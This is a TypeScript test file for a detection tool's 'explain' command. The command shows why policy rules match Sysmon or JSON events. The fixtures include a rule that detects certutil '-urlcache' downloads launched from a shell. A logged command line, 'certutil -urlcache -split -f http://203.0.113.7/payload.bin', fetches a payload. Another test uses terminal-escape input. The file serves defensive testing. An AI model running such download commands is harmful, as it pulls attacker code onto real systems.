import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT } from '../exit-code.js';
import { runCommand } from '../run-command.js';
import { FakeWorld } from '../testing/fake-world.js';
import { ATTACK, sysmonLog } from '../testing/sysmon-log.js';

let folder = '';
const at = (name: string): string => join(folder, name);

const POLICY = `version: 1.0.0
macros:
  - id: SHELLS
    values: [cmd.exe, powershell.exe]
  - id: BELOW_SHELL
    expression: process.ancestors.file.name in SHELLS
rules:
  - id: fetch
    expression: |-
      exec.file.name == "certutil.exe"   # the tool
      && BELOW_SHELL
      && exec.cmdline =~ "*-urlcache*"
    actions:
      - set: { name: fetched, value: true, scope: process, inherited: true }
      - set: { name: hosts, field: exec.file.name, append: true }
  - id: run_after
    silent: true
    expression: exec.file.name == "x.exe" && \${process.fetched} && "certutil.exe" in \${hosts}
  - id: created
    expression: create.file.name == "x"
  - id: off
    disabled: true
    expression: exec.file.name == "x"
  - id: admin
    expression: exec.user_sid == "S-1-5-18"
`;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'explain-'));
  writeFileSync(at('my.policy'), POLICY);
  writeFileSync(at('broken.policy'), 'rules:\n  - id: broken\n    expression: exec.file.nmae == "x"\n');
  writeFileSync(at('a.evtx'), sysmonLog(ATTACK));
  // The same attack, but what was fetched is started by the tool itself.
  writeFileSync(
    at('b.evtx'),
    sysmonLog([...ATTACK.slice(0, 2), { ...ATTACK[2]!, ppid: 4312, parentImage: ATTACK[1]!.image }]),
  );
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

interface Run {
  readonly exit: number;
  readonly out: string;
  readonly err: string;
}

async function explain(args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Run> {
  const world = new FakeWorld();
  Object.assign(world.env, env);
  const exit = await runCommand(['explain', ...args], world);
  return { exit, out: world.out.replaceAll(folder, ''), err: world.err.replaceAll(folder, '') };
}

const rule = (id: string, ...more: string[]): Promise<Run> =>
  explain(['-p', at('my.policy'), '-r', id, ...more], { COLUMNS: '100' });

const EVENT = {
  type: 'exec',
  time: '2026-01-15T12:00:00Z',
  fields: { 'process.pid': 7, 'process.file.name': 'cmd.exe', 'process.cmdline': 'cmd /c whoami' },
};

describe('a record of a log', () => {
  it('that matches: the terms that made it, the marked source of rule and macro', async () => {
    const { exit, out, err } = await rule('fetch', '-e', at('a.evtx'), '--record', '102');
    expect(err).toBe('');
    expect(exit).toBe(EXIT.done);
    expect(out).toBe(`event  exec  2024-06-25 09:11:30.000  WS01.corp.example
       /a.evtx record 102 (Microsoft-Windows-Sysmon 1)
       certutil.exe (4312)
         "certutil -urlcache -split -f http://203.0.113.7/payload.bin C"… (17 more characters)
       ← cmd.exe (900)  ← explorer.exe (700)

match, because
  + exec.file.name == "certutil.exe"  exec.file.name = "certutil.exe"  10:7
  + process.ancestors.file.name in SHELLS  process.ancestors.file.name = ["cmd.exe", "explorer.exe"]
      element [0] fits "cmd.exe" of SHELLS, line 4  BELOW_SHELL 6:17
  + exec.cmdline =~ "*-urlcache*"
      exec.cmdline = "certutil -urlcache -split -f http://203.0.113.7/p"… (29 more characters)
      12:10

rule fetch (/my.policy)
  10 | exec.file.name == "certutil.exe"   # the tool
     | ++++++++++++++++++++++++++++++++
  11 | && BELOW_SHELL
     |    +++++++++++
  12 | && exec.cmdline =~ "*-urlcache*"
     |    +++++++++++++++++++++++++++++
macro BELOW_SHELL (/my.policy)
   6 | process.ancestors.file.name in SHELLS
     | +++++++++++++++++++++++++++++++++++++
`);
  });

  it('that does not: first the smallest set of terms that failed, reached or not', async () => {
    const { out } = await rule('fetch', '-e', at('a.evtx'), '--record', '103');
    expect(out).toContain(`no match: it did not match because of 2 terms
  - exec.file.name == "certutil.exe"  exec.file.name = "x.exe"  10:7
  - exec.cmdline =~ "*-urlcache*"  exec.cmdline = "x.exe --run"  12:10
`);
    expect(out).toContain(`  11 | && BELOW_SHELL
     |    ···········
  12 | && exec.cmdline =~ "*-urlcache*"
     |    -----------------------------
`);
    expect(out).toContain(`the other terms
  · process.ancestors.file.name in SHELLS  process.ancestors.file.name = ["cmd.exe", "explorer.exe"]
`);
    expect(out).toContain('not reached, would hold');
  });

  it('that rests on what was not recorded: what, and which telemetry would have told', async () => {
    const { out } = await rule('admin', '-e', at('a.evtx'), '--record', '101');
    expect(out).toContain(`could not be known: it did not match, but it rests on what was not recorded
  ? exec.user_sid == "S-1-5-18"  exec.user_sid = ""  25:17
  exec.user_sid: not recorded (it reads as empty)
    told by Security 4688 (audit of Process Creation)
`);
    expect(out).toContain('     | ???????????????????????????\n');
  });

  it('is seen with the variables that it has in a scan, and who sets them', async () => {
    const inherited = await rule('run_after', '-e', at('b.evtx'), '--record', '103');
    expect(inherited.out).toContain(`       \${hosts} = ["certutil.exe"]  set by fetch
       \${process.fetched} = true  set by fetch
`);
    expect(inherited.out).toContain('match, because');
    const sibling = await rule('run_after', '-e', at('a.evtx'), '--record', '103');
    expect(sibling.out).toContain(`\${process.fetched} = not set  set by fetch`);
    expect(sibling.out).toContain(`because of 1 term
  - \${process.fetched}`);
  });

  it('of another type than the rule is about', async () => {
    const { out, exit } = await rule('created', '-e', at('a.evtx'), '--record', '102');
    expect(exit).toBe(EXIT.done);
    expect(out).toContain('no match: the event is of type exec, and the rule is about create');
  });

  it('that is not there, or of another chunk or host', async () => {
    const missing = await rule('fetch', '-e', at('a.evtx'), '--record', '9');
    expect(missing).toMatchObject({
      exit: EXIT.usage,
      out: '',
      err: expect.stringContaining('there is no record 9'),
    });
    for (const more of [
      ['--chunk', '5'],
      ['--host', 'OTHER'],
    ]) {
      expect((await rule('fetch', '-e', at('a.evtx'), '--record', '102', ...more)).exit).toBe(EXIT.usage);
    }
    expect(
      (await rule('fetch', '-e', at('a.evtx'), '--record', '102', '--chunk', '0', '--host', 'ws01')).exit,
    ).toBe(EXIT.done);
  });

  it('in two copies of a log is explained once, as it gives one event', async () => {
    const { out } = await rule('fetch', '-e', at('a.evtx'), '-e', at('b.evtx'), '--record', '102');
    expect(out.match(/^event {2}/gm)).toHaveLength(1);
  });
});

describe('many events', () => {
  it('come down to the first that matches', async () => {
    const { out, err } = await rule('fetch', '-e', at('a.evtx'));
    expect(err).toBe('the first event that matches; --all explains every one\n');
    expect(out).toContain('record 102');
  });

  it('come down to the one that comes nearest where none matches', async () => {
    const { out, err, exit } = await explain([
      '-x',
      'exec.file.name == "x.exe" && exec.pid == 1',
      '-e',
      at('a.evtx'),
    ]);
    expect(exit).toBe(EXIT.done);
    expect(err).toBe('none of 3 events matches; the one that comes nearest (--record names another)\n');
    expect(out).toContain('record 103');
    expect(out).toContain('because of 1 term\n  - exec.pid == 1  exec.pid = 4400  1:30\n');
  });

  it('are all explained with --all', async () => {
    const { out } = await rule('fetch', '-e', at('a.evtx'), '--all');
    expect(out.match(/^event {2}/gm)).toHaveLength(3);
  });

  it('of which none is of the type of the rule', async () => {
    const { exit, err } = await rule('created', '-e', at('a.evtx'));
    expect(exit).toBe(EXIT.usage);
    expect(err).toContain('there is no event of type create');
  });
});

describe('runtime events in JSON', () => {
  const json = JSON.stringify(EVENT);
  const x = (...args: string[]): Promise<Run> => explain(['-x', 'exec.file.name == "cmd.exe"', ...args]);

  it.each([
    ['on the command line', json, 1],
    ['one a line', `${json}\n\n${json}\n`, 2],
    ['an array', JSON.stringify([EVENT, EVENT], null, 2), 2],
    ['one that is printed over many lines', JSON.stringify(EVENT, null, 2), 1],
    ['arrays a line', `[${json}]\n[${json}]`, 2],
  ])('%s', async (_, text, events) => {
    writeFileSync(at('events.json'), text);
    const source = events === 1 && text === json ? json : at('events.json');
    const { out, exit } = await x('-e', source, '--all');
    expect(exit).toBe(EXIT.done);
    expect(out.match(/^match, because$/gm)).toHaveLength(events);
  });

  it('that are none are told with their place, and the rest is explained', async () => {
    writeFileSync(at('events.json'), `${json}\n{"type": "exec", "fields": {"nope": 1}}\nnot json\n`);
    const { exit, out, err } = await x('-e', at('events.json'), '--all');
    expect(exit).toBe(EXIT.unread);
    expect(out).toContain('match, because');
    expect(err).toContain('events.json, line 2: no runtime event: /fields/nope unknown field [CLI6073]');
    expect(err).toContain('events.json, line 3: no JSON: ');
  });

  it('share their processes, so that variables go on from one to the next', async () => {
    const start = (time: string, name: string, pid: number, parents: object[]): object => ({
      type: 'exec',
      time: `2026-01-15T12:00:${time}Z`,
      fields: { 'process.pid': pid, 'process.file.name': name, 'process.cmdline': 'x -urlcache' },
      ancestors: parents,
    });
    const tool = { pid: 8, 'file.name': 'certutil.exe' };
    writeFileSync(
      at('events.json'),
      JSON.stringify([
        start('00', 'certutil.exe', 8, [{ pid: 5, 'file.name': 'cmd.exe' }]),
        start('01', 'x.exe', 9, [tool]),
      ]),
    );
    const { out } = await rule('run_after', '-e', at('events.json'));
    expect(out).toContain(`\${process.fetched} = true`);
    expect(out).toContain('match, because');
  });

  it('are all known: nobody forgot to record what was written by hand', async () => {
    const { out } = await explain(['-x', 'exec.user == "bob"', '-e', json]);
    expect(out).toContain('no match: it did not match because of 1 term');
  });

  it('cannot do anything to the terminal', async () => {
    const hostile = {
      ...EVENT,
      fields: {
        'process.pid': 7,
        'process.file.name': '\u001b[31m\u202ecmd',
        'process.cmdline': `a\n\u009b${'é'.repeat(9000)}`,
      },
    };
    const { out } = await explain(
      ['-x', 'exec.cmdline == "x" || exec.file.name == "y"', '-e', JSON.stringify(hostile)],
      { COLUMNS: '70' },
    );
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come through
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u0080-\u009f\u202e]/);
    expect(out).toContain('<U+001B>[31m<U+202E>cmd');
    expect(out).toMatch(/… \(8,\d\d\d more characters\)/);
    for (const line of out.split('\n')) expect(line.length).toBeLessThanOrEqual(70);
  });
});

describe('without a rule', () => {
  const survey = (...args: string[]): Promise<Run> =>
    explain(['-p', at('my.policy'), ...args], { COLUMNS: '100' });

  it('every rule about its type is put to the event, nearest first', async () => {
    const { out, exit, err } = await survey('-e', at('a.evtx'), '--record', '103');
    expect([exit, err]).toEqual([EXIT.done, '']);
    expect(out).toContain(`       ← cmd.exe (900)  ← explorer.exe (700)

? admin  could not be known  not recorded: exec.user_sid
- run_after  fails at 1 of 3 terms  \${process.fetched}
- fetch  fails at 2 of 3 terms  exec.file.name == "certutil.exe"  exec.cmdline =~ "*-urlcache*"
`);
  });

  it('each sees the variables that it sees in a scan', async () => {
    const { out } = await survey('-e', at('b.evtx'), '--record', '103');
    expect(out).toContain('\n+ run_after  matches\n');
  });

  it('as JSON, or of events in JSON', async () => {
    const { out } = await survey('-e', JSON.stringify(EVENT), '--json');
    expect(JSON.parse(out)).toMatchObject({
      event: { type: 'exec' },
      rules: [
        { rule: { id: 'admin' }, outcome: 'no match', failed_count: 1, failed: [{ want: true }] },
        {},
        {},
      ],
    });
    const other = await survey('-e', '{"type": "delete_key", "fields": {}}');
    expect(other.out).toContain('no rule is about events of type delete_key');
  });

  it('says how many events were too many', async () => {
    const { out, err } = await survey('-e', JSON.stringify(Array.from({ length: 23 }, () => EVENT)));
    expect(out.match(/^event {2}/gm)).toHaveLength(20);
    expect(err).toBe('3 more events not explained: name a record\n');
  });

  it('needs an event', async () => {
    expect((await survey('-e', at('a.evtx'), '--record', '9')).err).toContain('there is no record 9');
  });
});

describe('as JSON', () => {
  it('has every node, with terms by number', async () => {
    const { out, err } = await rule('fetch', '-e', at('a.evtx'), '--record', '103', '--json');
    expect(err).toBe('');
    const explained = JSON.parse(out) as Record<string, never>;
    expect(explained).toMatchObject({
      rule: { id: 'fetch', policy: 'my.policy' },
      event: { type: 'exec', source: { record_id: 103 } },
      outcome: 'no match',
      verdict: false,
      failed: [
        { term: 0, want: true },
        { term: 2, want: true },
      ],
      failed_count: 2,
      satisfiable: true,
      root: {
        kind: 'logical',
        operators: ['&&', '&&'],
        children: [
          {
            term: 0,
            kind: 'string-match',
            verdict: false,
            reached: true,
            line: 10,
            column: 7,
            operands: [{ name: 'exec.file.name', value: 'x.exe' }],
          },
          {
            term: 1,
            macro: 'BELOW_SHELL',
            uses: [{ line: 11, column: 10 }],
            verdict: true,
            reached: false,
            line: 6,
          },
          { term: 2 },
        ],
      },
    });
  });

  it('has what is missing', async () => {
    const { out } = await rule('admin', '-e', at('a.evtx'), '--record', '101', '--json');
    expect(JSON.parse(out)).toMatchObject({
      outcome: 'could not be known',
      unknown: [0],
      missing: [
        { fields: ['exec.user_sid'], gap: 'absent', told_by: [{ provider: 'security', event_id: 4688 }] },
      ],
    });
  });
});

describe('what cannot be explained', () => {
  it.each([
    [['-r', 'fetch'], "option '--event <source>' is missing"],
    [['-e', 'EVTX'], 'without --rule an event must be named: give --record'],
    [['-r', 'fetch', '-x', 'true', '-e', '{}'], 'give either --rule or --expression'],
    [['-r', 'fetsh', '-e', '{}'], 'there is no rule fetsh: did you mean fetch?'],
    [['-r', 'off', '-e', '{}'], 'rule off is not loaded: disabled'],
    [
      ['-p', 'BROKEN', '-r', 'broken', '-e', '{}'],
      'rule broken is not loaded: it has an error: there is no field exec.file.nmae',
    ],
    [['-r', 'fetch', '-e', '{}', '--record', 'x'], "--record: 'x' is not an EventRecordID"],
    [
      ['-x', 'exec.file.nmae == 1', '-e', '{}'],
      '1:1 error SECL1101: there is no field exec.file.nmae\n   1 | exec.file.nmae == 1\n     | ^~~~~~~~~~~~~~\n  → Did you',
    ],
    [['-x', 'exec.pid > 0', '-e', 'nowhere.evtx'], 'no such file or folder'],
  ])('%j: %s', async (args, message) => {
    const { exit, err, out } = await explain([
      '-p',
      at('my.policy'),
      ...args.map((arg) => ({ EVTX: at('a.evtx'), BROKEN: at('broken.policy') })[arg] ?? arg),
    ]);
    expect(err).toContain(message);
    expect(out).toBe('');
    expect(exit).toBe(args.includes('nowhere.evtx') ? EXIT.unread : EXIT.usage);
  });
});

it('shows the beginning of a very long rule', async () => {
  const long = Array.from({ length: 2_000 }, (_, i) => `exec.pid != ${i + 10}`).join(' && ');
  const { out } = await explain(['-x', long, '-e', JSON.stringify(EVENT)], { COLUMNS: '80' });
  expect(out).toContain('| … and more; --json has all of it');
  expect(out).toContain('… and 1,960 more terms; --json has them all');
  expect(out.split('\n').length).toBeLessThan(300);
});

it('takes an expression about no event type in particular', async () => {
  const { out } = await explain(['-x', 'process.pid == 7', '-e', JSON.stringify(EVENT)]);
  expect(out).toContain('match, because\n  + process.pid == 7');
});

it('colours terms by their verdict', async () => {
  const { out } = await explain(['-x', 'exec.pid == 8', '-e', JSON.stringify(EVENT)], { FORCE_COLOR: '1' });
  expect(out).toContain('\u001b[31mexec.pid == 8\u001b[39m');
});
